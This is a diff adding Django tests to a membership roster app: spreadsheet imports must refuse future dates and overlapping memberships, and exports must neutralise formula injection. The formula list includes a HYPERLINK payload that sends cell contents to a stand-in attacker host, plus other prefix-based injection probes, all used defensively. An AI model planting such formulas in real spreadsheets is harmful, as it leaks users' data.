@@ -9,6 +9,7 @@ import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import timezone
 
 from members.models import Membership, MembershipRole, Person, Stratum
 
@@ -301,3 +302,141 @@ def test_an_export_imports_back_without_changes(client, craftsman_in_qingshan, t
     before = counts()
     import_file(client, [[row.get(header) for header in HEADERS] for row in rows])
     assert counts() == before
+
+
+# ---- the sheet is refused by the same rules as the pages ---------------------------------------------------
+
+
+def _row(name, phone, *, organization="青山同心荟", joined_on="2022-01-01", left_on=None, region="青山村"):
+    return [
+        name,
+        "男",
+        phone,
+        "自由职业人员",
+        "木匠",
+        "",
+        "",
+        "",
+        "否",
+        region,
+        organization,
+        "会员",
+        joined_on,
+        left_on,
+    ]
+
+
+def _refusals(client, rows) -> dict[int, dict[str, list[str]]]:
+    preview = upload(client, rows)
+    assert "confirm_form" not in preview.context
+    result = preview.context["result"]
+    return {row.number: row.field_specific_errors for row in result.invalid_rows}
+
+
+def test_a_sheet_with_a_joining_or_leaving_date_in_the_future_saves_nothing(
+    client, craftsman_in_qingshan, town_staff_huanghu
+):
+    client.force_login(town_staff_huanghu)
+    before = counts()
+    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).isoformat()
+    errors = _refusals(
+        client,
+        [
+            GOOD_ROWS[1],
+            _row("王木", "13700006666", joined_on=tomorrow),
+            _row("吴远", "13700007777", joined_on="2022-01-01", left_on=tomorrow),
+        ],
+    )
+    assert errors == {3: {"入会日期": ["入会日期不能晚于今天。"]}, 4: {"退出日期": ["退出日期不能晚于今天。"]}}
+    assert counts() == before
+
+
+def test_a_sheet_with_overlapping_memberships_saves_nothing(client, craftsman_in_qingshan, town_staff_huanghu):
+    client.force_login(town_staff_huanghu)
+    before = counts()
+    errors = _refusals(
+        client,
+        [
+            # 张竹青 is a member since 2019-02-28: a span of 2018–2020 overlaps it.
+            _row("张竹青", "13800001111", joined_on="2018-01-01", left_on="2020-01-01"),
+            # The same new person twice in one organization, the second span inside the first.
+            _row("王木", "13700006666", joined_on="2015-01-01", left_on="2021-01-01"),
+            _row("王木", "13700006666", joined_on="2016-01-01", left_on="2017-01-01"),
+        ],
+    )
+    assert set(errors) == {2, 4}
+    assert "与 2019-02-28 起至今的会籍重叠" in errors[2]["入会日期"][0]
+    assert "与 2015-01-01 至 2021-01-01 的会籍重叠" in errors[4]["入会日期"][0]
+    assert counts() == before
+
+
+def test_a_sheet_cannot_open_a_second_current_membership(client, craftsman_in_qingshan, town_staff_huanghu):
+    client.force_login(town_staff_huanghu)
+    errors = _refusals(client, [_row("张竹青", "13800001111", joined_on="2023-01-01")])
+    assert "已是青山同心荟的在册会员" in errors[2]["组织"][0]
+    assert craftsman_in_qingshan.memberships.count() == 1
+
+
+def test_a_phone_held_outside_the_importers_area_is_answered_without_saying_so(
+    client, craftsman_in_qingshan, designer_in_wanghu, town_staff_huanghu
+):
+    """Probe 13 in the import: the same words as the pages and the admin, nothing about where."""
+    client.force_login(town_staff_huanghu)
+    before = counts()
+    errors = _refusals(client, [GOOD_ROWS[1], _row("吴设计", "13900002222")])
+    assert errors == {
+        3: {"手机号": ["这个手机号不能在此登记。请先与本人核对号码;号码无误的,请联系区委统战部核实后办理。"]}
+    }
+    assert counts() == before
+
+
+def test_a_good_file_is_written_by_the_importer_through_the_roster_services(
+    client, craftsman_in_qingshan, town_staff_huanghu
+):
+    client.force_login(town_staff_huanghu)
+    import_file(client, GOOD_ROWS)
+    craftsman = Person.objects.get(pk=craftsman_in_qingshan.pk)
+    assert craftsman.history.first().history_user == town_staff_huanghu
+    anna = Membership.objects.get(person__name="Anna")
+    assert anna.history.get().history_user == town_staff_huanghu
+
+
+# ---- formulas in exported cells (probe 10) ------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
+    "+86-138",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_names_that_look_like_formulas_are_exported_as_text(client, qingshan_tongxinhui, district_admin_yuhang, enrol):
+    for index, name in enumerate(FORMULAS):
+        enrol(qingshan_tongxinhui, name=name, occupation="=1+1" if index == 0 else "")
+    client.force_login(district_admin_yuhang)
+    response = client.post(
+        reverse("admin:members_membership_export"),
+        {"format": 0, "resource": 0, **{f"rosterresource_{name}": "on" for name in ROSTER_FIELDS}},
+    )
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells), [cell.value for cell in cells if cell.data_type == "f"]
+    names = sorted(row[0].value for row in sheet.iter_rows(min_row=2))
+    # The sheet's XML keeps a carriage return as a line feed.
+    assert names == sorted("'" + name.replace("\r", "\n") for name in FORMULAS)
+    assert not any(str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+def test_an_escaped_export_imports_back_without_changes(client, qingshan_tongxinhui, town_staff_huanghu, enrol):
+    enrol(qingshan_tongxinhui, name="=HYPERLINK(1)", occupation="-竹编")
+    client.force_login(town_staff_huanghu)
+    rows = _exported_rows(client)
+    assert rows[0]["姓名"] == "'=HYPERLINK(1)"
+    before = counts()
+    preview = upload(client, [[row.get(header) for header in HEADERS] for row in rows])
+    assert preview.context["result"].totals["skip"] == 1
+    assert counts() == before
+    assert Person.objects.get().name == "=HYPERLINK(1)"
